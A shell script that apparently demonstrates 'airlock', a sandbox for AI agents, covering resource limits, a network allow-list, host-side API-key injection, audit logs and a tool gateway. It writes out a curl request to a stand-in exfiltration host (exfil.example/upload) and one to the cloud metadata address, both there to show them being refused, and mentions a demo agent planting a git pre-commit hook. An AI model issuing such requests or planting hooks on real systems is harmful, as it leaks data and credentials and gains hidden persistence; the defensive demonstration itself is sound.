#!/bin/sh
# make demo: run a small shell "agent" in a sandbox over a demo workspace,
# show what it could and could not do, and the result JSON.
set -eu
cd "$(dirname "$0")/.."
AIRLOCK=${AIRLOCK_BIN:-$PWD/build/src/cli/airlock}
demo=$(mktemp -d /tmp/airlock-demo-XXXXXX)
trap 'rm -rf "$demo"' EXIT
chmod 755 "$demo"

# The demo workspace: a tiny repository.
ws=$demo/project
mkdir -p "$ws"
printf '# demo project\n\nThe agent works here.\n' >"$ws/README.md"
git -C "$ws" init -q
cp examples/agent.sh "$demo/agent.sh"

echo "== airlock run: the agent in a sandbox over $ws"
echo "   (--memory 256M --pids 64 --timeout 60; read-only system, no network)"
"$AIRLOCK" run -q -w "$ws" --ro "$demo/agent.sh:/agent/agent.sh" \
        --memory 256M --pids 64 --timeout 60 --result "$demo/result.json" \
        -- /bin/sh /agent/agent.sh
echo
echo "== the result"
cat "$demo/result.json"
echo
echo "== on the host afterwards"
echo "   workspace: $(cd "$ws" && ls | tr '\n' ' ')"
echo "   .git/hooks: $(ls -A "$ws/.git/hooks" | grep -cx pre-commit || true) pre-commit hook(s) planted by the agent"
echo
echo "== the network gate: one allowed host, everything else refused"
# A stand-in for a package registry, on the host's loopback.
mkdir -p "$demo/registry"
echo '{"name": "left-pad", "version": "1.3.0"}' >"$demo/registry/left-pad.json"
port=$(/usr/bin/python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
/usr/bin/python3 -m http.server "$port" --bind 127.0.0.1 --directory "$demo/registry" >/dev/null 2>&1 &
server=$!
trap 'kill $server 2>/dev/null; rm -rf "$demo"' EXIT
sleep 0.5
"$AIRLOCK" run -q -w "$ws" --audit "$demo/audit.jsonl" \
        --allow "registry.test:$port" --host "registry.test=127.0.0.1" --allow-private 127.0.0.0/8 \
        -- /bin/sh -c "
echo '  allowed: registry.test:' \$(curl -s http://registry.test:$port/left-pad.json)
echo '  refused: exfil.example:' \$(curl -s -o /dev/null -w '%{http_code} ' -D - http://exfil.example/upload | grep -i x-airlock-denied | tr -d '\r')
echo '  refused: the metadata service:' \$(curl -s -o /dev/null -w '%{http_code}' http://169.254.169.254/latest/)
"
echo
echo "== a route: the agent calls a model API; the host injects the key"
mport=$(/usr/bin/python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
key="sk-demo-$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"
/usr/bin/python3 examples/model-upstream.py "$mport" "$key" &
model=$!
trap 'kill $server $model 2>/dev/null; rm -rf "$demo"' EXIT
printf 'MODEL_API_KEY=%s\n' "$key" >"$demo/secrets.env"
chmod 600 "$demo/secrets.env"
sleep 0.5
"$AIRLOCK" run -q -w "$ws" --audit "$demo/audit.jsonl" --secrets "$demo/secrets.env" \
        --route "model=http://model.test:$mport" --host "model.test=127.0.0.1" --allow-private 127.0.0.0/8 \
        --inject 'model:x-api-key=${secret:MODEL_API_KEY}' --inject 'model:x-billing-account=${account}' \
        --account team-demo --env ANTHROPIC_BASE_URL=http://127.0.0.1:8080/model \
        -- /bin/sh -c '
echo "  the agent asks:  POST $ANTHROPIC_BASE_URL/v1/messages (with a made-up x-api-key)"
echo "  the model says: " $(curl -s -H "x-api-key: agent-made-up-key" -d "{\"prompt\": \"hi\"}" "$ANTHROPIC_BASE_URL/v1/messages")
echo "  key in the sandbox environment: $(env | grep -c sk-demo) occurrence(s)"
'

echo
echo "== airlock audit show: what crossed the gate"
"$AIRLOCK" audit show "$demo/audit.jsonl"
"$AIRLOCK" audit verify "$demo/audit.jsonl"

echo
echo "== a memory hog, a runaway and a missing command"
"$AIRLOCK" run -q -w "$ws" --memory 64M --result "$demo/oom.json" -- python3 -c 'a = bytearray(1 << 30)' || true
echo "   memory hog:   $(cat "$demo/oom.json")"
"$AIRLOCK" run -q -w "$ws" --timeout 1 --result "$demo/timeout.json" -- sleep 100 || true
echo "   sleep 100:    $(cat "$demo/timeout.json")"
"$AIRLOCK" run -q -w "$ws" --result "$demo/missing.json" -- no-such-agent 2>/dev/null || true
echo "   missing:      $(cat "$demo/missing.json")"

echo
echo "== the tool gateway: the agent asks the host, through one audited door"
cat >"$demo/tools.json" <<'TOOLS'
{"define": {
  "host.uptime": {"description": "How long the host has been up",
                  "args": {"type": "object", "properties": {}, "additionalProperties": false},
                  "command": ["/usr/bin/uptime", "-p"]},
  "host.id": {"description": "Who the host runs tools as",
              "args": {"type": "object", "properties": {}, "additionalProperties": false},
              "command": ["/usr/bin/id"]}
}}
TOOLS
chmod 644 "$demo/tools.json"
"$AIRLOCK" run -q -w "$ws" --audit "$demo/tools.jsonl" --tools "$demo/tools.json" \
        --tool core.time --tool host.uptime -- /bin/sh -c '
echo "  airlock-tool ls:"; airlock-tool ls | sed "s/^/    /"
echo "  allowed: core.time   ->" $(airlock-tool call core.time)
echo "  allowed: host.uptime ->" $(airlock-tool call host.uptime)
out=$(airlock-tool call host.id 2>&1); rc=$?
echo "  refused: host.id (defined, not allowed), exit $rc:"; echo "    $out"
'
echo "  the audit lines:"
"$AIRLOCK" audit show --kind tool.call "$demo/tools.jsonl" | sed 's/^/    /'
"$AIRLOCK" audit verify "$demo/tools.jsonl" | sed 's/^/    /'
